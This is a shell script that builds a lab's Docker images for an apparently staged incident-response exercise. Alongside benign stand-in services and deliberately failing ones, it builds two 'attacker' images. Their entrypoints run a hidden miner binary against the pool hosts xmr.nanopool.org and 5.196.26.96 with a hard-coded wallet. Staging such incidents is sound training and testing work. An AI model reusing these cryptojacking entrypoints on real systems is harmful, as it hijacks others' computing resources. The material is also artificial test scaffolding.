# Runs inside a lab host with the parts unpacked in /images: makes every image of the lab, without a registry.
set -eu
export DOCKER_BUILDKIT=0
cd /images

# What the engine has on disk so far becomes the start of the hosts of that kind.
keep() { # keep KIND
  systemctl stop docker.socket docker
  mkdir -p /images/kept
  rm -rf "/images/kept/$1"
  cp -a /var/lib/docker "/images/kept/$1"
  systemctl reset-failed docker.socket docker.service
  systemctl start docker
}

build() { # build REF < Dockerfile ; the context is ./context
  docker build -q -t "$1" -f - context > /dev/null
}

rm -rf context
mkdir context
cp -a programs/worker context/worker

# --- the base everything sits on
for applet in $(busybox/bin/busybox --list); do
  [ -e "busybox/bin/$applet" ] || ln busybox/bin/busybox "busybox/bin/$applet"
done
mkdir -p busybox/etc busybox/tmp busybox/root busybox/var/run busybox/usr/local/bin busybox/usr/sbin busybox/data
chmod 1777 busybox/tmp
printf 'root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/false\nnginx:x:101:101:nginx:/:/bin/false\nredis:x:999:999:redis:/data:/bin/false\npostgres:x:70:70:postgres:/data:/bin/false\n' > busybox/etc/passwd
printf 'root:x:0:\nnobody:x:65534:\nnginx:x:101:\nredis:x:999:\npostgres:x:70:\n' > busybox/etc/group
tar -C busybox -c . | docker import --change 'CMD ["sh"]' - busybox:1.36 > /dev/null

# --- honest images
cat > context/nginx << 'X'
#!/bin/sh
trap 'exit 0' TERM INT QUIT
httpd -f -p "${PORT:-80}" -h /usr/share/nginx/html &
wait
X
cat > context/serve << 'X'
#!/bin/sh
# usage: serve PORT
trap 'exit 0' TERM INT QUIT
httpd -f -p "$1" -h /tmp &
wait
X
chmod 755 context/nginx context/serve
build nginx:1.27 << 'X'
FROM busybox:1.36
ENV NGINX_VERSION=1.27.3
COPY nginx /usr/sbin/nginx
RUN mkdir -p /usr/share/nginx/html && echo '<h1>It works</h1>' > /usr/share/nginx/html/index.html
EXPOSE 80
STOPSIGNAL SIGQUIT
CMD ["nginx", "-g", "daemon off;"]
X
build postgres:16 << 'X'
FROM busybox:1.36
ENV PG_MAJOR=16 PGDATA=/data
COPY serve /usr/local/bin/postgres
VOLUME /data
EXPOSE 5432
STOPSIGNAL SIGINT
CMD ["postgres", "5432"]
X
cp -a redis context/redis
cat > context/docker-entrypoint.sh << 'X'
#!/bin/sh
set -e
exec "$@" --protected-mode no --save '' --dir /data
X
chmod 755 context/docker-entrypoint.sh
build redis:7 << 'X'
FROM busybox:1.36
ENV REDIS_VERSION=7.0.15
COPY redis /
COPY docker-entrypoint.sh /usr/local/bin/
VOLUME /data
WORKDIR /data
EXPOSE 6379
ENTRYPOINT ["docker-entrypoint.sh"]
CMD ["redis-server"]
X
build lab/small:1 << 'X'
FROM busybox:1.36
CMD ["sleep", "1000000"]
X

keep plain

# --- an image that nobody knows, on the server that is reached through its engine alone
build netmon4/agent:latest << 'X'
FROM busybox:1.36
CMD ["sh", "-c", "while sleep 5; do :; done"]
X
keep tls
docker rmi -f netmon4/agent:latest > /dev/null

# --- the shop's
build traefik:v3.1 << 'X'
FROM busybox:1.36
COPY serve /usr/local/bin/traefik
EXPOSE 80
CMD ["traefik", "8080"]
X
build grafana/grafana:11.2.0 << 'X'
FROM busybox:1.36
COPY serve /usr/local/bin/grafana
EXPOSE 3000
USER 472
CMD ["grafana", "3000"]
X
build gcr.io/cadvisor/cadvisor:v0.49.1 << 'X'
FROM busybox:1.36
COPY serve /usr/local/bin/cadvisor
EXPOSE 8080
CMD ["cadvisor", "8080"]
X
build ghcr.io/acme-shop/api:2.4.1 << 'X'
FROM busybox:1.36
COPY serve /usr/local/bin/api
EXPOSE 3000
CMD ["api", "3000"]
X
# Dies without a word after four seconds, with the exit code of a process that was killed.
build ghcr.io/acme-shop/billing-api:1.9.0 << 'X'
FROM busybox:1.36
EXPOSE 3001
CMD ["sh", "-c", "sleep 4; exit 137"]
X
build ghcr.io/acme-shop/report-worker:1.3.0 << 'X'
FROM busybox:1.36
CMD ["sh", "-c", "sleep 1; exec tail /dev/zero"]
X
build ghcr.io/acme-shop/mail-relay:3.2.0 << 'X'
FROM busybox:1.36
CMD ["sh", "-c", "sleep 1; echo 'fatal: /etc/relay.conf: no such file' >&2; exit 1"]
X
# --- the attacker's images. The wallet belongs to nobody: its keys were made at random and thrown away.
wallet=46gapW8DVCncakoxJNJLQdV1nPjoMr6E1HBhHX4LWgGBLhkL4Coj4zRXCdb7aPuXBwERTg3jeD5b9N6gnM7s6ScC5XsJFn3
printf '#!/bin/sh\ncp /usr/local/lib/.m /tmp/xmrig && exec /tmp/xmrig -o stratum+tcp://xmr.nanopool.org:14433 -u %s.theimg2 -p x --donate-level 1 --cpu-max-threads-hint 100 -k --coin=monero\n' "$wallet" > context/mac.sh
chmod 755 context/mac.sh context/worker
build heybb/theimg2:latest << 'X'
FROM busybox:1.36
COPY worker /usr/local/lib/.m
COPY mac.sh /mac.sh
ENTRYPOINT ["/bin/sh", "/mac.sh"]
X
printf '#!/bin/sh\ncp /usr/local/lib/.m /tmp/xmrig && exec /tmp/xmrig -o stratum+tcp://5.196.26.96:14433 -u %s -p zoolu --donate-level=1 --randomx-mode=fast -a rx/0\n' "$wallet" > context/mac.sh
build zoolu/ubuntu:latest << 'X'
FROM busybox:1.36
COPY worker /usr/local/lib/.m
COPY mac.sh /root/mac.sh
ENTRYPOINT ["/bin/sh", "/root/mac.sh"]
X
# --- left over from earlier builds: images that lost their name
for round in 1 2 3; do
  echo "$round" > context/version
  build ghcr.io/acme-shop/web:latest << 'X'
FROM busybox:1.36
COPY version /etc/web-version
CMD ["sleep", "1000000"]
X
done
# Kept beside, so that the incident can be staged again after somebody removed them.
docker save -o attack-images.tar heybb/theimg2 zoolu/ubuntu
keep infected
